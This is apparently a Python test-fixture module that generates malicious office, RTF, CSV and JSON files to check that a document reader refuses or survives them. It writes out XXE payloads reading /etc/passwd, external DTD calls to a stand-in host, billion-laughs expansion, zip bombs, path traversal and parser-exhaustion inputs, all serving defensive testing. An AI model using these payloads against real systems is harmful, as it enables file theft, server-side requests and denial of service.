"""Office files, tables and data made to break their readers."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from functools import partial
from io import BytesIO

from tests.broken.hostile import Hostile, found
from tests.read.office_files import (
    ODF,
    XML,
    A,
    P,
    R,
    S,
    W,
    docx,
    inline,
    odf,
    paragraph,
    pptx,
    relations,
    row,
    shape,
    xlsx,
)

WORDS = "Tender notice"
OUTSIDE = '<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
TYPE_OUTSIDE = '<!DOCTYPE x SYSTEM "http://203.0.113.7/evil.dtd">'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefghi", "bcdefghij", strict=True)
)
LAUGHS += "]>"
MB = 1 << 20


def word(prologue: str, body: str) -> bytes:
    """A Word file whose body has a prologue of its own."""
    xml = f"{XML}{prologue}<w:document {W}><w:body>{body}</w:body></w:document>"
    return docx("", {"word/document.xml": xml})


def docx_external_entity() -> bytes:
    return word(OUTSIDE, f"<w:p><w:r><w:t>{WORDS} &leak;</w:t></w:r></w:p>")


def docx_billion_laughs() -> bytes:
    return word(LAUGHS, f"<w:p><w:r><w:t>{WORDS} &j;</w:t></w:r></w:p>")


def docx_type_outside() -> bytes:
    return word(TYPE_OUTSIDE, paragraph(WORDS))


def xlsx_external_entity() -> bytes:
    strings = f"{XML}{OUTSIDE}<sst {S}><si><t>{WORDS} &leak;</t></si></sst>"
    return xlsx({"T": row(1, '<c r="A1" t="s"><v>0</v></c>')}, {"xl/sharedStrings.xml": strings}, strings="<si/>")


def pptx_external_entity() -> bytes:
    slide = f"{XML}{OUTSIDE}<p:sld {P} {A}>{shape(WORDS)}<a:p><a:t>&leak;</a:t></a:p></p:sld>"
    return pptx({"slide1": ""}, {"ppt/slides/slide1.xml": slide})


def odt_external_entity() -> bytes:
    content = f"{XML}{OUTSIDE}<office:document-content {ODF}><text:p>{WORDS} &leak;</text:p></office:document-content>"
    return odf("text", "", {"content.xml": content})


def odt_external_parameter() -> bytes:
    declared = '<!DOCTYPE x [<!ENTITY % more SYSTEM "http://203.0.113.7/more.dtd"> %more;]>'
    content = f"{XML}{declared}<office:document-content {ODF}><text:p>{WORDS}</text:p></office:document-content>"
    return odf("text", "", {"content.xml": content})


def inflating(members: dict[str, str | bytes], name: str, chunk: bytes, times: int) -> bytes:
    """An archive in which one member inflates to `times` chunks."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for other, content in members.items():
            archive.writestr(zipfile.ZipInfo(other), content)
        with archive.open(name, "w", force_zip64=True) as stream:
            for _ in range(times):
                stream.write(chunk)
    return out.getvalue()


def members_of(data: bytes) -> dict[str, str | bytes]:
    """The members of an archive."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def xlsx_bomb_of_strings() -> bytes:
    members = members_of(xlsx({"T": row(1, inline("A1", WORDS), '<c r="B1" t="s"><v>0</v></c>')}, strings="<si/>"))
    del members["xl/sharedStrings.xml"]
    return inflating(members, "xl/sharedStrings.xml", b"<si><t>a</t></si>" * (MB // 17), 120)


def docx_bomb_of_paragraphs() -> bytes:
    members = members_of(docx(""))
    del members["word/document.xml"]
    text = f"<w:document {W}><w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>".encode()
    return inflating(members, "word/document.xml", text + b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * (MB // 34), 100)


def xlsx_bomb_of_cells() -> bytes:
    members = members_of(xlsx({"T": ""}))
    del members["xl/worksheets/sheet1.xml"]
    rows = (row(1, inline("A1", WORDS)) + "<row><c><v>1</v></c><c><v>2</v></c></row>" * (MB // 41)).encode()
    return inflating(members, "xl/worksheets/sheet1.xml", f"<worksheet {S}><sheetData>".encode() + rows, 100)


def ods_bomb_of_repetition() -> bytes:
    cell = (
        '<table:table-cell table:number-columns-repeated="1000000000"><text:p>Tender notice</text:p></table:table-cell>'
    )
    rows = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>' * 20
    return odf("spreadsheet", f'<table:table table:name="T">{rows}</table:table>')


def odt_bomb_of_spaces() -> bytes:
    spaces = '<text:s text:c="999999999"/>x' * 2000
    return odf("text", f"<text:p>{WORDS}{spaces}</text:p>")


def xlsx_lying_dimension() -> bytes:
    sheet = (
        f'{XML}<worksheet {S}><dimension ref="A1:XFD1048576"/><sheetData>{row(1, inline("A1", WORDS))}'
        f"{row(1048576, inline('XFD1048576', 'last'))}</sheetData></worksheet>"
    )
    return xlsx({"T": ""}, {"xl/worksheets/sheet1.xml": sheet})


def xlsx_one_sheet_many_times() -> bytes:
    """Ten thousand sheets that are all the same member of a megabyte."""
    sheets = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, 10_001))
    rows = row(1, inline("A1", WORDS)) + " " * MB
    members = {
        "xl/workbook.xml": f"{XML}<workbook {S} {R}><sheets>{sheets}</sheets></workbook>",
        "xl/worksheets/sheet1.xml": f"<worksheet {S}><sheetData>{rows}</sheetData></worksheet>",
    }
    return xlsx({"T": ""}, members)


def docx_header_that_is_the_body() -> bytes:
    """Relationships that lead in a circle."""
    members = {"word/_rels/header1.xml.rels": relations(("header", "document.xml"))}
    return docx(paragraph(WORDS), members, ("header", "document.xml"), ("header", "../word/document.xml"))


def xlsx_target_above_the_root() -> bytes:
    kinds = relations(("worksheet", "../../../../../../etc/passwd"), ("worksheet", "worksheets/sheet2.xml"))
    sheets = {"Gone": "", "Here": row(1, inline("A1", WORDS))}
    return xlsx(sheets, {"xl/_rels/workbook.xml.rels": kinds})


def docx_cut_off() -> bytes:
    data = docx(paragraph(WORDS) * 1000)
    return data[: len(data) * 2 // 3]


def docx_wrong_checksum() -> bytes:
    data = bytearray(docx(paragraph(WORDS)))
    place = data.rfind(b"word/document.xml") - 46  # its entry in the directory at the end
    struct.pack_into("<I", data, place + 16, 0xDEADBEEF)
    return bytes(data)


def docx_lying_size() -> bytes:
    data = bytearray(docx(paragraph(WORDS) + paragraph("x" * 5000)))
    place = data.rfind(b"word/document.xml") - 46
    struct.pack_into("<I", data, place + 24, 300)  # smaller than it is
    return bytes(data)


def docx_two_bodies() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members_of(docx(paragraph("Another text"))).items():
            archive.writestr(zipfile.ZipInfo(name), content)
        second = zipfile.ZipInfo("word/document.xmX")
        archive.writestr(second, members_of(docx(paragraph(WORDS)))["word/document.xml"])
    return out.getvalue().replace(b"word/document.xmX", b"word/document.xml")


def docx_million_tags_deep() -> bytes:
    return word("", "<w:sdt>" * 1_000_000 + paragraph(WORDS) + "</w:sdt>" * 1_000_000)


def docx_many_attributes() -> bytes:
    attributes = " ".join(f'w:a{number}="1"' for number in range(200_000))
    return word("", f"<w:p {attributes}><w:r><w:t {attributes}>{WORDS}</w:t></w:r></w:p>")


def docx_many_namespaces() -> bytes:
    declared = " ".join(f'xmlns:p{number}="urn:x{number}"' for number in range(20_000))
    tags = "".join(f'<w:x xmlns:q="urn:{number}">' for number in range(50_000))
    return word("", f"<w:x {declared}>{tags}{paragraph(WORDS)}{'</w:x>' * 50_001}")


def docx_tags_never_closed() -> bytes:
    return word("", paragraph(WORDS) + '<w:p a="' * 300_000)


def docx_boxes_within_boxes() -> bytes:
    depth = 20_000
    return word("", "<w:p><w:r><w:txbxContent>" * depth + paragraph(WORDS) + "</w:txbxContent></w:r></w:p>" * depth)


def docx_circle_of_styles() -> bytes:
    styles = "".join(
        f'<w:style w:styleId="s{number}"><w:name w:val="n"/><w:basedOn w:val="s{(number + 1) % 5000}"/></w:style>'
        for number in range(5000)
    )
    members = {"word/styles.xml": f"<w:styles {W}>{styles}</w:styles>"}
    return docx(paragraph(WORDS, style="s0") * 500, members, ("styles", "styles.xml"))


def xlsx_formats_that_never_end() -> bytes:
    codes = "".join(f'<numFmt numFmtId="{number + 200}" formatCode="{"[" * 250}"/>' for number in range(5000))
    cells = "".join(f'<xf numFmtId="{number + 200}"/>' for number in range(5000))
    styles = f"<numFmts>{codes}</numFmts><cellXfs>{cells}</cellXfs>"
    rows = "".join(row(number + 1, f'<c s="{number}"><v>{number}.5</v></c>') for number in range(5000))
    return xlsx({WORDS: rows}, styles=styles)


def encrypted_workbook() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(9000)


def rtf_nested() -> bytes:
    return b"{\\rtf1\\ansi " + b"{\\b" * 100_000 + b" Tender notice" + b"}" * 100_000 + b"}"


def rtf_binary_that_lies() -> bytes:
    return b"{\\rtf1\\ansi Tender notice{\\pict\\bin999999999 \x00\x01}} after"


def rtf_half_characters() -> bytes:
    return b"{\\rtf1\\ansi Tender notice " + b"\\u-10179?" * 20_000 + b"\\u-8704?\\par}"


def rtf_never_closed() -> bytes:
    return b"{\\rtf1\\ansi Tender notice " + b"{\\upr{\\*\\ud{\\footnote " * 50_000


def csv_cell_of_40_mb() -> bytes:
    return b'name,text\nTender notice,"' + b"lorem ipsum " * (40 * MB // 12) + b'"\n'


def csv_with_nuls() -> bytes:
    return b"name,text\n" + b"Tender\x00notice,\x00\x00\x00\n" * 5000


def csv_of_two_encodings() -> bytes:
    chinese = "某市公安局,某某科技股份有限公司中标通知书\n"
    return b"Tender notice,supplier\n" + (chinese * 400).encode() + (chinese * 20).encode("gb18030")


def csv_marks_that_never_close() -> bytes:
    return b"Tender notice,text\n" + b'1,"x\n' * 500_000


def csv_of_delimiters() -> bytes:
    return b"Tender notice" + b"," * 20_000_000


def json_nested() -> bytes:
    return b'{"a":' * 100_000 + b'"Tender notice"' + b"}" * 100_000


def json_million_names() -> bytes:
    return (
        '{"title": "Tender notice"' + "".join(f', "name{number}": {number}' for number in range(1_000_000)) + "}"
    ).encode()


def json_long_number() -> bytes:
    return b'{"title": "Tender notice", "amount": ' + b"9" * MB + b"}"


def json_strings_that_never_close() -> bytes:
    return b'["Tender notice", ' + b'"\n\\' * 500_000


def json_half_characters() -> bytes:
    return b'["Tender notice", "' + b"\\ud83d" * 50_000 + b'"]'


def json_only_brackets() -> bytes:
    return b"[" * 5_000_000


Make = Callable[[], bytes]
XXE: tuple[tuple[str, Make, str], ...] = (
    ("docx_external_entity", docx_external_entity, "a.docx"),
    ("docx_billion_laughs", docx_billion_laughs, "a.docx"),
    ("docx_type_outside", docx_type_outside, "a.docx"),
    ("xlsx_external_entity", xlsx_external_entity, "a.xlsx"),
    ("pptx_external_entity", pptx_external_entity, "a.pptx"),
    ("odt_external_entity", odt_external_entity, "a.odt"),
    ("odt_external_parameter", odt_external_parameter, "a.odt"),
)
TOLD = partial(Hostile, words=(WORDS,))

HOSTILE: tuple[Hostile, ...] = (
    *(TOLD(name, make, file, found("xml_entity_refused")) for name, make, file in XXE),
    TOLD("xlsx_bomb_of_strings", xlsx_bomb_of_strings, "a.xlsx", found("read_in_part")),
    TOLD("docx_bomb_of_paragraphs", docx_bomb_of_paragraphs, "a.docx", found("read_in_part")),
    TOLD("xlsx_bomb_of_cells", xlsx_bomb_of_cells, "a.xlsx", found("read_in_part")),
    TOLD("ods_bomb_of_repetition", ods_bomb_of_repetition, "a.ods", found("read_in_part")),
    TOLD("odt_bomb_of_spaces", odt_bomb_of_spaces, "a.odt", found("read_in_part")),
    TOLD("xlsx_lying_dimension", xlsx_lying_dimension, "a.xlsx"),
    TOLD("xlsx_one_sheet_many_times", xlsx_one_sheet_many_times, "a.xlsx", found("read_in_part")),
    TOLD("docx_header_that_is_the_body", docx_header_that_is_the_body, "a.docx"),
    TOLD("xlsx_target_above_the_root", xlsx_target_above_the_root, "a.xlsx", found("missing_member")),
    Hostile("docx_cut_off", docx_cut_off, "a.docx", found("damaged_archive")),
    TOLD("docx_wrong_checksum", docx_wrong_checksum, "a.docx", found("damaged_member")),
    TOLD("docx_lying_size", docx_lying_size, "a.docx", found("damaged_member")),
    TOLD("docx_two_bodies", docx_two_bodies, "a.docx", found("duplicate_member")),
    TOLD("docx_million_tags_deep", docx_million_tags_deep, "a.docx"),
    TOLD("docx_many_attributes", docx_many_attributes, "a.docx"),
    TOLD("docx_many_namespaces", docx_many_namespaces, "a.docx"),
    TOLD("docx_tags_never_closed", docx_tags_never_closed, "a.docx", found("xml_broken")),
    TOLD("docx_boxes_within_boxes", docx_boxes_within_boxes, "a.docx"),
    TOLD("docx_circle_of_styles", docx_circle_of_styles, "a.docx"),
    TOLD("xlsx_formats_that_never_end", xlsx_formats_that_never_end, "a.xlsx"),
    Hostile("xlsx_encrypted", encrypted_workbook, "a.xlsx", found("encrypted_file")),
    TOLD("rtf_nested", rtf_nested, "a.rtf", found("read_in_part")),
    TOLD("rtf_binary_that_lies", rtf_binary_that_lies, "a.rtf", found("read_in_part")),
    TOLD("rtf_half_characters", rtf_half_characters, "a.rtf", found("undecodable_bytes")),
    TOLD("rtf_never_closed", rtf_never_closed, "a.rtf", found("damaged_file")),
    TOLD("csv_cell_of_40_mb", csv_cell_of_40_mb, "a.csv"),
    Hostile("csv_with_nuls", csv_with_nuls, "a.csv", found("binary_file")),
    TOLD("csv_of_two_encodings", csv_of_two_encodings, "a.csv", found("undecodable_bytes")),
    TOLD("csv_marks_that_never_close", csv_marks_that_never_close, "a.csv"),
    TOLD("csv_of_delimiters", csv_of_delimiters, "a.csv"),
    TOLD("json_nested", json_nested, "a.json", found("nested_too_deep")),
    TOLD("json_million_names", json_million_names, "a.json", found("read_in_part")),
    TOLD("json_long_number", json_long_number, "a.json"),
    TOLD("json_strings_that_never_close", json_strings_that_never_close, "a.json", found("malformed_json")),
    TOLD("json_half_characters", json_half_characters, "a.json", found("undecodable_bytes")),
    Hostile("json_only_brackets", json_only_brackets, "a.json", found("malformed_json")),
)
